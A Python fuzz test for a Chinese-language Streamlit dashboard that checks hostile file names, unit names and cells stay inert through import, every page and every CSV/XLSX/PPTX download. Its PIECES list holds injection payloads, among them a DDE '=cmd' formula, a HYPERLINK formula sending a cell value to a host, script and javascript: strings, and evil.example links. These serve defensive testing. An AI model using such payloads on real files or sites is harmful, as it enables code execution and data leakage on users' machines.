"""Fuzz for issue 10: hostile file names, unit names and cells through import, build, every page
and every download.

Each example uploads a file to the 导入文档 page (preview), imports it with intake.add (the code
of `python -m loaders add FILE --unit …`) into a copy of a small data folder, then runs every
page registered in app.py with the new unit in the filters, and the 原文 page with the fuzzed
text as ?doc=. It asserts: no exception, no Markdown text that would render a link, an image
or a shortcode, no plotly label holding <a> or <img>, no formula in any CSV, XLSX or PPTX
download, and nothing in data/raw changed but the imported file (and its sources.toml entry).
"""

from __future__ import annotations

import csv
import io
import json
import shutil
import tempfile
from pathlib import Path

import plotly.graph_objects as go
import pytest
import streamlit as st
from hypothesis import HealthCheck, event, example, given, settings
from hypothesis import strategies as s
from injection_support import (
    FORMULAS,
    IMAGE_DOC,
    LINK_DOC,
    MD_UNIT,
    PAGES,
    PLOT_UNIT,
    assert_inert,
    csv_cells,
    formula_cells,
    open_page,
    pptx_texts,
    xlsx_cells,
)
from office_files import copy_raw, folder_hashes, seed_lines

from dashboard import exports
from loaders import intake
from loaders.build import build

IMPORT_PAGE = "views/import_documents.py"
SOURCE_PAGE = "views/source_viewer.py"
SUFFIXES = (".txt", ".csv", ".tsv", ".md")
# The 问题 cell of 家庭能力建设's row in seed 000, replaced by a fuzzed text.
PROBLEM_CELL = "3.65万元收回"
# Pieces the texts are made of: formula starts, Markdown, Streamlit directives, HTML, URLs,
# entities, control, invisible and bidirectional characters, CJK, RTL scripts, emoji.
PIECES = [
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\n",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://x"&A1,"点击")',
    "[点此](http://evil.example/)",
    "![x](http://host/x.png)",
    '<a href="http://evil.example/">a</a>',
    '<img src="http://host/i.png">',
    "<script>alert(1)</script>",
    "javascript:alert(1)",
    "**粗**",
    "_斜_",
    "`码`",
    "# ",
    "- ",
    "1. ",
    "> ",
    "|a|b|\n|-|-|",
    ":red[红]",
    ":material/home:",
    ":tada:",
    ":streamlit:",
    "$x^2$",
    "$$",
    "www.evil.example",
    "a@evil.example",
    "http://evil.example",
    "\\",
    "&amp;",
    "&lt;b&gt;",
    "\u202e",
    "\u200f",
    "\u200b",
    "\ufeff",
    "\x01",
    "\x1b[31m",
    "深圳市",
    "卫生健康局",
    "项目",
    "שלום",
    "مرحبا",
    "\U0001f600",
]
# Characters an import refuses in a file or unit name (control, format, private use, separators).
REFUSED = ("Cc", "Cf", "Cs", "Co", "Zl", "Zp")


def texts(visible: bool):
    """Texts made of PIECES and random characters; visible: none an import would refuse."""
    pieces = [p for p in PIECES if not visible or p.isprintable() and "\u200b" not in p]
    refused = REFUSED if visible else ("Cs",)
    piece = s.one_of(
        s.sampled_from(pieces),
        s.text(
            s.characters(blacklist_categories=refused, blacklist_characters="\x00"), max_size=12
        ),
        # binary-ish: bytes read as Latin-1
        s.text(s.characters(min_codepoint=1, max_codepoint=255, blacklist_categories=refused)),
    )
    return s.one_of(
        s.lists(piece, min_size=1, max_size=6).map("".join),
        # long: a name of up to 120 characters is taken, a cell of any length
        s.tuples(s.sampled_from(pieces), s.integers(2, 8) if visible else s.integers(20, 80)).map(
            lambda t: t[0] * t[1]
        ),
    )


text = texts(visible=False)
# Mostly names an import takes (so that most examples load a document), some it refuses.
name_text = s.one_of(texts(visible=True), texts(visible=True), texts(visible=True), text)
names = s.tuples(name_text, s.sampled_from(SUFFIXES)).map("".join)


@pytest.fixture(scope="module")
def base(tmp_path_factory) -> Path:
    """A small data folder (seed 004 and its tables) that every example starts from a copy of."""
    root = tmp_path_factory.mktemp("fuzz_base")
    raw = copy_raw(root / "raw", leave_out=("000", "001", "002", "003"))
    build(raw, root / "parquet")
    return root


def document(suffix: str, projects: list[str], cell: str) -> bytes:
    """Seed 000 with its low-execution projects renamed and a 问题 cell replaced, as text or CSV."""
    renamed = dict(zip(FORMULAS, projects, strict=False))
    rows = []
    for line in seed_lines("000"):
        cells = line.split("\t")
        if len(cells) > 2 and cells[2] in renamed:
            cells[2] = renamed[cells[2]]
        rows.append([cell if c.startswith(PROBLEM_CELL) else c for c in cells])
    if suffix != ".csv":
        return "\n".join("\t".join(r) for r in rows).encode("utf-8")
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    return buffer.getvalue().encode("utf-8")


def downloads_of(made: dict, raw: Path) -> None:
    """Every table and deck the runs offered for download: no formula in a CSV, XLSX or PPTX.

    Chart files are checked on their figures (charts_of); the 原文 page's 下载原文件 is the
    imported file itself, byte for byte, and is left out."""
    for name, data in made.items():
        if not name.endswith((".csv", ".xlsx", ".pptx")) or (raw / name).is_file():
            continue
        data = data() if callable(data) else data
        if name.endswith(".csv"):
            assert formula_cells(csv_cells(data)) == [], name
        elif name.endswith(".xlsx"):
            cells = xlsx_cells(data)
            assert [c.coordinate for c in cells if c.data_type == "f"] == [], name
            assert formula_cells(c.value for c in cells) == [], name
        elif name.endswith(".pptx"):
            cells, paragraphs = pptx_texts(data)
            assert formula_cells(cells) == [] and formula_cells(paragraphs) == [], name


def _strings(value):
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for item in value.values():
            yield from _strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from _strings(item)


def charts_of(at) -> None:
    """The page's charts: no plotly label holding a tag from the data; their export formula-safe."""
    for chart in at.get("plotly_chart"):
        spec = json.loads(chart.proto.spec)
        labels = list(_strings([spec["data"], spec["layout"].get("title")]))
        assert [t for t in labels if "<a" in t or "<img" in t] == []
        exported = exports.export_figure(go.Figure(spec))
        printed = [exported.layout.title.text]
        for trace in exported.data:
            for axis in ("x", "y", "text"):
                printed += [v for v in (getattr(trace, axis, None) or ()) if isinstance(v, str)]
        assert formula_cells(printed) == []


@settings(
    max_examples=15,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)
@given(name=names, unit=name_text, projects=s.lists(text, min_size=1, max_size=3), cell=text)
@example(
    name=f"{LINK_DOC}.csv",
    unit=MD_UNIT,
    projects=list(FORMULAS.values())[:3],
    cell=IMAGE_DOC,
)
@example(
    name="![x](h.png)=cmd|'x'!A0.txt",
    unit=PLOT_UNIT,
    projects=[*list(FORMULAS.values())[3:], "\r=1+1"],
    cell="-3+4",
)
def test_hostile_names_and_cells_stay_inert(base, name, unit, projects, cell):
    with tempfile.TemporaryDirectory() as tmp, pytest.MonkeyPatch.context() as mp:
        raw, out = Path(tmp) / "raw", Path(tmp) / "parquet"
        shutil.copytree(base / "raw", raw)
        shutil.copytree(base / "parquet", out)
        mp.setenv(intake.RAW_ENV, str(raw))
        mp.setenv(intake.PARQUET_ENV, str(out))
        mp.delenv("IMPORT_PASSWORD_SHA256", raising=False)
        mp.setattr(exports, "CHROMIUM_PATH", "/nonexistent/chromium")  # HTML charts, no images
        mp.setattr(exports, "_renderer", exports._Renderer())
        made: dict = {}
        button = st.download_button

        def recording(label, data=None, file_name=None, *args, **kwargs):
            made[file_name] = data
            return button(label, data, file_name, *args, **kwargs)

        mp.setattr(st, "download_button", recording)
        data = document(Path(name).suffix or ".txt", projects, cell)
        before = folder_hashes(raw)

        at = open_page(IMPORT_PAGE)
        at.file_uploader(key="import_files").set_value([(name, data, "text/plain")]).run()
        assert_inert(at, name)
        try:
            change = intake.add(name, data, raw, out, {"unit": unit})
        except intake.ImportRefused as refused:
            change = None
            assert str(refused)
        event("imported" if change else "refused")
        after = folder_hashes(raw)
        if change is None:
            assert after == before
        else:  # the file stored, its sources.toml entry written, nothing else touched
            assert set(after) - set(before) <= {change.stored, "sources.toml"}
            assert {k for k, v in before.items() if after.get(k) != v} <= {"sources.toml"}
            assert (raw / change.stored).read_bytes() == data

        query = {"filter_unit": intake.clean_fields(unit=unit).get("unit", "")} if change else {}
        at = open_page(PAGES[0], query)
        for page in PAGES:
            if page != PAGES[0]:
                at.switch_page(page).run()
            assert_inert(at, unit, name, *projects, cell)
            charts_of(at)
        at.query_params["doc"] = unit  # a link naming no document: the page says so
        at.switch_page(SOURCE_PAGE).run()
        assert_inert(at, unit)
        if change is not None:
            at.query_params.update(doc=change.doc_id, line="18")
            at.run()
            assert_inert(at, unit, name, *projects, cell)
        downloads_of(made, raw)
